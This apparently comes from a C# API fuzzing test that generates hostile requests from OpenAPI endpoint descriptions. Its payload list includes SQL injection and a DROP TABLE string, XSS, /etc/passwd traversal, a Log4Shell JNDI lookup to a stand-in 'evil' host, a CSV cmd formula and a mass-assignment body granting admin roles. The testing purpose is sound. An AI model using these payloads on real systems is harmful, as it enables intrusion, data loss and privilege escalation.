using System.Text;
using Platform.Testing.OpenApi;

namespace Platform.Tests.Fuzzing;

/// <summary>One hostile request: what was wrong with it, and how to build it.</summary>
public sealed record FuzzCase(ApiEndpoint Endpoint, string What, string Url, HttpContent? Body)
{
    private static readonly string[] Injections =
    [
        "' OR '1'='1' --", "'; DROP TABLE regions; --", "<script>alert(1)</script>", "../../../../etc/passwd",
        "${jndi:ldap://evil/x}", "{{7*7}}", "\u0000\u0001", "%00", "😀𠮷", "\u202Eevil",
    ];

    /// <summary>Every case for an endpoint, from its OpenAPI description.</summary>
    public static IEnumerable<FuzzCase> For(ApiEndpoint endpoint)
    {
        var url = endpoint.SampleUrl();
        foreach (var parameter in endpoint.Parameters)
        {
            foreach (var value in Injections.Append(new string('9', 5000)))
            {
                yield return new(endpoint, $"path {parameter.Name} = hostile", endpoint.Path.Replace("{" + parameter.Name + "}", Uri.EscapeDataString(value), StringComparison.Ordinal), Json("{}"));
            }
        }

        foreach (var query in endpoint.QueryParameters)
        {
            foreach (var value in Injections.Concat(["-1", "99999999999999999999", "1e309", "abc", new string('x', 10_000)]))
            {
                yield return new(endpoint, $"query {query} = hostile", $"{url}?{query}={Uri.EscapeDataString(value)}", null);
            }
        }

        if (endpoint.BodyType is null)
        {
            yield break;
        }

        if (endpoint.BodyType.Contains("csv", StringComparison.Ordinal))
        {
            yield return new(endpoint, "CSV: no header", url, Csv("1,2,3\n"));
            yield return new(endpoint, "CSV: unbalanced quotes", url, Csv("name,idNumber,communityCode\n\"open,511603,x\n"));
            yield return new(endpoint, "CSV: injection and formula cells", url, Csv("name,idNumber,communityCode\n=cmd|' /C calc'!A0,' OR 1=1 --,<script>\n"));
            yield return new(endpoint, "CSV: a 500,000-character line", url, Csv("name,idNumber,communityCode\n" + new string('x', 500_000) + "\n"));
            yield break;
        }

        yield return new(endpoint, "body: not JSON", url, Json("this is not json"));
        yield return new(endpoint, "body: JSON array instead of object", url, Json("[1,2,3]"));
        yield return new(endpoint, "body: deeply nested", url, Json(new string('[', 5000) + new string(']', 5000)));
        yield return new(endpoint, "body: invalid UTF-8", url, Bytes([.. "{\"name\":\""u8, 0xC3, 0x28, 0xFF, .. "\"}"u8]));
        yield return new(endpoint, "body: read-only fields set (mass assignment)", url,
            Json("{\"id\":\"0196ffff-ffff-7fff-bfff-ffffffffffff\",\"createdAt\":\"2020-01-01T00:00:00Z\",\"version\":7,\"isAdmin\":true,\"roles\":[\"city-admin\"]}"));
        foreach (var (property, type) in endpoint.BodyProperties)
        {
            yield return new(endpoint, $"body: {property} of the wrong type", url, Json($"{{\"{property}\":{WrongValue(type)}}}"));
            yield return new(endpoint, $"body: {property} huge", url, Json($"{{\"{property}\":{HugeValue(type)}}}"));
            foreach (var injection in Injections)
            {
                yield return new(endpoint, $"body: {property} = injection", url, Json($"{{\"{property}\":{System.Text.Json.JsonSerializer.Serialize(injection)}}}"));
            }
        }
    }

    private static string WrongValue(string type) => type switch
    {
        "string" => "12345",
        "integer" or "number" => "\"twelve\"",
        "boolean" => "\"yes\"",
        "array" => "\"not a list\"",
        _ => "42",
    };

    private static string HugeValue(string type) => type switch
    {
        "integer" or "number" => "1e309",
        "array" => "[" + string.Join(',', Enumerable.Repeat("\"x\"", 100_000)) + "]",
        _ => "\"" + new string('长', 100_000) + "\"",
    };

    private static StringContent Csv(string text) => new(text, Encoding.UTF8, "text/csv");

    private static StringContent Json(string text) => new(text, Encoding.UTF8, "application/json");

    private static ByteArrayContent Bytes(byte[] bytes)
    {
        var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = new("application/json");
        return content;
    }
}
